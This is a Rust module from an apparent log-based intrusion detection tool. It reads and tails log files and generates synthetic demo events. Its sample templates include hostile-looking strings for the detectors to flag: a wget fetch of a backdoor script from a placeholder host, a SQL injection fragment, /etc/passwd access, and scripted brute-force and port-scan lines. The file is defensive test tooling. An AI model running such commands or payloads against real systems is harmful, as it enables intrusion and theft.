//! Log collection module.
//!
//! Feeds the detection pipeline from log files on disk and from a synthetic
//! sample generator. Events are normalized and submitted fire-and-forget
//! into a bounded channel drained by the pipeline workers.

use crate::normalizer;
use anyhow::{Context, Result};
use chrono::Utc;
use rand::seq::IndexedRandom;
use rand::Rng;
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use tokio::fs::File;
use tokio::io::{AsyncBufReadExt, AsyncSeekExt, BufReader, SeekFrom};
use tokio::sync::mpsc;
use tracing::{debug, warn};

use crate::models::NormalizedEvent;

const TARGET_COLLECTOR: &str = "collector";

/// Submits normalized events into the ingest channel
pub struct Collector {
    tx: mpsc::Sender<NormalizedEvent>,
}

impl Collector {
    pub fn new(tx: mpsc::Sender<NormalizedEvent>) -> Self {
        Self { tx }
    }

    /// Fire-and-forget submission; returns false once the pipeline is gone
    pub async fn submit(&self, event: NormalizedEvent) -> bool {
        if self.tx.send(event).await.is_err() {
            warn!(target: TARGET_COLLECTOR, "Ingest channel closed, dropping event");
            return false;
        }
        true
    }

    /// Read a log file line by line, skipping blanks, and submit each line.
    /// Returns the number of submitted events.
    pub async fn collect_from_file(&self, path: &Path, source: &str) -> Result<usize> {
        let file = File::open(path)
            .await
            .with_context(|| format!("failed to open log file {:?}", path))?;
        self.collect_from_reader(BufReader::new(file), source).await
    }

    /// Process every *.log file in a directory from the beginning
    pub async fn collect_from_dir(&self, dir: &Path, source: &str) -> Result<usize> {
        let mut submitted = 0;
        for path in log_files(dir).await? {
            submitted += self.collect_from_file(&path, source).await?;
        }
        Ok(submitted)
    }

    /// Tail pass: read only what was appended to each *.log file since the
    /// previous call, tracked through `offsets`. Truncated files are re-read
    /// from the start.
    pub async fn collect_new_from_dir(
        &self,
        dir: &Path,
        source: &str,
        offsets: &mut HashMap<PathBuf, u64>,
    ) -> Result<usize> {
        let mut submitted = 0;

        for path in log_files(dir).await? {
            let len = tokio::fs::metadata(&path)
                .await
                .with_context(|| format!("failed to stat log file {:?}", path))?
                .len();
            let offset = offsets.get(&path).copied().unwrap_or(0);

            let start = if len < offset {
                debug!(target: TARGET_COLLECTOR, path = ?path, "Log file truncated, re-reading");
                0
            } else {
                offset
            };
            if len == start {
                offsets.insert(path, len);
                continue;
            }

            let mut file = File::open(&path)
                .await
                .with_context(|| format!("failed to open log file {:?}", path))?;
            file.seek(SeekFrom::Start(start))
                .await
                .with_context(|| format!("failed to seek log file {:?}", path))?;
            submitted += self.collect_from_reader(BufReader::new(file), source).await?;
            offsets.insert(path, len);
        }

        Ok(submitted)
    }

    async fn collect_from_reader<R>(&self, reader: BufReader<R>, source: &str) -> Result<usize>
    where
        R: tokio::io::AsyncRead + Unpin,
    {
        let mut lines = reader.lines();
        let mut submitted = 0;
        while let Some(line) = lines.next_line().await? {
            if line.trim().is_empty() {
                continue;
            }
            let event = normalizer::parse_line(&line, source, Utc::now());
            if self.submit(event).await {
                submitted += 1;
            }
        }
        Ok(submitted)
    }

    /// Generate a demo corpus: mixed benign and suspicious lines, plus a
    /// scripted brute-force burst and a port sweep that exercise the
    /// stateful detectors end to end.
    pub async fn generate_sample_logs(&self) -> Result<usize> {
        const SAMPLE_IPS: [&str; 8] = [
            "192.168.1.100",
            "192.168.1.101",
            "10.0.0.50",
            "172.16.0.10",
            "8.8.8.8",
            "1.1.1.1",
            "123.45.67.89",
            "98.76.54.32",
        ];
        const SAMPLE_USERS: [&str; 7] = ["admin", "user1", "john", "alice", "bob", "test", "guest"];
        const SAMPLE_LINES: [&str; 17] = [
            // Benign traffic
            "INFO: User {user} logged in successfully from {ip}",
            "INFO: System backup completed successfully",
            "INFO: Service started on port {port}",
            "INFO: File uploaded by {user} from {ip}",
            "WARNING: Disk usage at 80%",
            "ERROR: Failed to connect to database (retry in 5s)",
            // Lines the detectors should pick up
            "ERROR: Failed password for {user} from {ip}",
            "WARNING: Invalid user {user} from {ip}",
            "ERROR: Authentication failure for {user} from {ip}",
            "INFO: Connection attempt on port {port} from {ip}",
            "WARNING: Suspicious query detected: SELECT * FROM users WHERE id=1 OR 1=1",
            "ERROR: Unauthorized access attempt from {ip}",
            "WARNING: Command executed: wget http://malicious.example/backdoor.sh",
            "CRITICAL: Multiple login failures for admin from {ip}",
            "INFO: Port scan detected from {ip}",
            "ERROR: SQL injection attempt blocked from {ip}",
            "WARNING: Suspicious file access: /etc/passwd from {ip}",
        ];

        let mut submitted = 0;
        let mut rng = rand::rng();

        for _ in 0..50 {
            let template = *SAMPLE_LINES.choose(&mut rng).expect("non-empty");
            let ip = *SAMPLE_IPS.choose(&mut rng).expect("non-empty");
            let user = *SAMPLE_USERS.choose(&mut rng).expect("non-empty");
            let port: u16 = rng.random_range(20..10000);

            let line = template
                .replace("{user}", user)
                .replace("{ip}", ip)
                .replace("{port}", &port.to_string());

            let event = normalizer::parse_line(&line, "demo", Utc::now());
            if self.submit(event).await {
                submitted += 1;
            }
        }

        // Scripted brute-force burst from one attacker IP.
        let attacker_ip = "192.168.1.99";
        for _ in 0..7 {
            let line = format!("ERROR: Failed password for admin from {attacker_ip}");
            let event = normalizer::parse_line(&line, "ssh", Utc::now());
            if self.submit(event).await {
                submitted += 1;
            }
        }

        // Scripted port sweep across twenty ports.
        let scanner_ip = "10.10.10.10";
        for port in 20..40 {
            let line = format!("INFO: Connection attempt on port {port} from {scanner_ip}");
            let event = normalizer::parse_line(&line, "firewall", Utc::now());
            if self.submit(event).await {
                submitted += 1;
            }
        }

        Ok(submitted)
    }
}

async fn log_files(dir: &Path) -> Result<Vec<PathBuf>> {
    let mut paths = Vec::new();
    let mut entries = tokio::fs::read_dir(dir)
        .await
        .with_context(|| format!("failed to read log directory {:?}", dir))?;
    while let Some(entry) = entries.next_entry().await? {
        let path = entry.path();
        if path.extension().is_some_and(|ext| ext == "log") {
            paths.push(path);
        }
    }
    paths.sort();
    Ok(paths)
}
